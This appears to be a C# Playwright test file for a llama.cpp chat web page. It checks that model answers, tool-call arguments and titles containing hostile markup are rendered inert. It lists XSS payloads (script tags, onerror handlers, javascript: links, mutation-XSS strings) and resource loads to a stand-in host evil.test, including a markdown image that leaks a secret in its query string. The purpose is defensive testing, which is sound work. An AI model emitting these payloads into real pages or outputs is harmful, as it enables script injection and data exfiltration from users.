using System.Collections.Concurrent;

namespace LlamaCpp.BrowserTests;

/// <summary>What a model writes may come from somebody else: a web page, a document, a tool. Nothing of it runs, and nothing tells anybody.</summary>
public sealed class HostileTextTests(Chromium chromium)
{
    private static readonly string[] Scripts =
    [
        "<script>window.hacked = 1</script>",
        "<img src=x onerror=\"window.hacked = 1\">",
        "<svg onload=\"window.hacked = 1\"><script>window.hacked = 1</script></svg>",
        "<iframe src=\"javascript:parent.hacked = 1\"></iframe>",
        "<iframe srcdoc=\"<script>parent.hacked = 1</script>\"></iframe>",
        "<details open ontoggle=\"window.hacked = 1\"><summary>x</summary></details>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
        "<object data=\"data:text/html,<script>parent.hacked = 1</script>\"></object>",
        "<base href=\"http://evil.test/\"><a href=\"x\">x</a>",
        "<form action=\"http://evil.test/\"><input name=\"q\" autofocus onfocus=\"window.hacked = 1\"><button>Send</button></form>",
    ];

    private static readonly string[] ForeignHosts =
    [
        "![secret](http://evil.test/image.png?q=secret)",
        "<img src=\"http://evil.test/tag.png\">",
        "<img src=\"//evil.test/relative.png\" srcset=\"http://evil.test/set.png 2x\">",
        "<picture><source srcset=\"http://evil.test/source.png\"><img src=\"http://evil.test/fallback.png\"></picture>",
        "<video src=\"http://evil.test/video.mp4\" poster=\"http://evil.test/poster.png\"></video>",
        "<audio src=\"http://evil.test/sound.mp3\" autoplay></audio>",
        "<link rel=\"stylesheet\" href=\"http://evil.test/style.css\">",
        "<style>@import url(http://evil.test/import.css); body { background: url(http://evil.test/page.png) }</style>",
        "<div style=\"background: url(http://evil.test/inline.png)\">text</div>",
        "<meta http-equiv=\"refresh\" content=\"0; url=http://evil.test/\">",
        "<svg><image href=\"http://evil.test/vector.png\" /><use href=\"http://evil.test/use.svg#x\" /></svg>",
        "<table background=\"http://evil.test/table.png\"><tr><td>x</td></tr></table>",
    ];

    private static readonly string[] Links =
    [
        "[click](javascript:window.hacked=1)",
        "[click](JaVaScRiPt:window.hacked=1)",
        "[click](data:text/html,<script>window.hacked=1</script>)",
        "[click](vbscript:x)",
        "<a href=\"java\tscript:window.hacked=1\">click</a>",
        "<a href=\"&#106;avascript:window.hacked=1\">click</a>",
        "<a href=\"https://example.test/\" target=\"_self\" onclick=\"window.hacked = 1\">click</a>",
    ];

    [Fact]
    public async Task Scripts_do_not_run()
    {
        await using FakeServer server = await FakeServer.StartAsync(Document(Scripts));
        await using ChatSite site = await ChatSite.StartAsync(chromium, server.Address);
        ChatPage page = await site.OpenAsync();

        await ShowAsync(page);

        Assert.Equal(0, await page.Answer.Locator("script, iframe, object, svg, form, input, base, [onerror], [onload], [onfocus], [ontoggle]").CountAsync());
        Assert.True(await page.Page.EvaluateAsync<bool>("window.hacked === undefined"));
    }

    [Fact]
    public async Task Nothing_is_loaded_from_other_hosts()
    {
        ConcurrentQueue<string> requests = new();
        await using FakeServer server = await FakeServer.StartAsync(Document(ForeignHosts));
        await using ChatSite site = await ChatSite.StartAsync(chromium, server.Address);
        ChatPage page = await site.OpenAsync();
        page.Page.Request += (_, request) => requests.Enqueue(request.Url);

        await ShowAsync(page);
        await page.Page.WaitForLoadStateAsync(LoadState.NetworkIdle);

        Assert.All(requests, url => Assert.StartsWith(site.Address.ToString(), url, StringComparison.Ordinal));
        await Expect(page.Answer.GetByRole(AriaRole.Link, new() { Name = "Image: secret" })).ToHaveAttributeAsync("href", "http://evil.test/image.png?q=secret");
        Assert.Equal(0, await page.Answer.Locator("img, source, video, audio, link, style, meta, [style], [background]").CountAsync());
    }

    [Fact]
    public async Task Links_lead_only_to_web_pages_and_to_new_tabs()
    {
        await using FakeServer server = await FakeServer.StartAsync(Document(Links));
        await using ChatSite site = await ChatSite.StartAsync(chromium, server.Address);
        ChatPage page = await site.OpenAsync();

        await ShowAsync(page);

        string[] addresses = await page.Answer.Locator("a[href]").EvaluateAllAsync<string[]>("links => links.map(link => link.getAttribute('href') + ' ' + link.target + ' ' + link.rel)");
        Assert.Equal(["https://example.test/ _blank noopener noreferrer nofollow"], addresses);
        foreach (ILocator link in await page.Answer.GetByText("click").AllAsync())
        {
            await link.EvaluateAsync("link => { link.addEventListener('click', event => event.defaultPrevented); link.target !== '_blank' && link.click(); }");
        }

        Assert.True(await page.Page.EvaluateAsync<bool>("window.hacked === undefined"));
    }

    [Fact]
    public async Task Names_arguments_results_and_titles_are_text()
    {
        const string Markup = "<img src=x onerror='window.hacked = 1'>";
        int answers = 0;
        await using FakeServer server = await FakeServer.StartAsync((write, _) => write(Interlocked.Increment(ref answers) == 1
            ? StreamEvents.Role + StreamEvents.ToolCall(0, "1", "get_weather", $$"""{"city":"{{Markup}}"}""") + StreamEvents.Finish("tool_calls") + StreamEvents.Done
            : StreamEvents.Role + StreamEvents.Reasoning(Markup) + StreamEvents.Text("Done.") + StreamEvents.Finish() + StreamEvents.Done));
        await using ChatSite site = await ChatSite.StartAsync(chromium, server.Address);
        ChatPage page = await site.OpenAsync();

        await page.AskAsync(Markup);

        await Expect(page.Answer).ToContainTextAsync("Done.");
        await Expect(page.Questions).ToContainTextAsync(Markup);
        await Expect(page.Conversations).ToHaveTextAsync([Markup]);
        await Expect(page.Answer.Locator(".tool summary")).ToContainTextAsync(Markup);
        Assert.True(await page.Page.EvaluateAsync<bool>("window.hacked === undefined"));
    }

    [Fact]
    public async Task Policy_of_the_page_forbids_what_the_sanitizer_would_let_through()
    {
        await using FakeServer server = await FakeServer.StartAsync("Hello");
        await using ChatSite site = await ChatSite.StartAsync(chromium, server.Address);
        ChatPage page = await site.OpenAsync();

        string html = await page.Page.EvaluateAsync<string>("() => { try { document.body.innerHTML = '<b>x</b>'; return 'taken'; } catch (error) { return error.name; } }");
        string image = await page.Page.EvaluateAsync<string>("""
            () => new Promise(resolve => {
              addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective));
              const image = new Image();
              image.src = 'http://evil.test/image.png';
            })
            """);

        Assert.Equal(("TypeError", "img-src"), (html, image));
    }

    [Fact]
    public async Task Page_of_another_host_does_not_get_in_by_its_name()
    {
        await using FakeServer server = await FakeServer.StartAsync("Hello");
        await using ChatSite site = await ChatSite.StartAsync(chromium, server.Address);
        using HttpClient client = new() { DefaultRequestHeaders = { Host = "evil.test" } };

        using HttpResponseMessage response = await client.GetAsync(new Uri(site.Address, "api/status"), TestContext.Current.CancellationToken);

        Assert.Equal(400, (int)response.StatusCode);
    }

    private static string Document(string[] blocks) => string.Join("\n\n", blocks) + "\n\nThe end.";

    private static async Task ShowAsync(ChatPage page)
    {
        await page.AskAsync("Show it.");
        await Expect(page.Answer).ToContainTextAsync("The end.");
    }
}
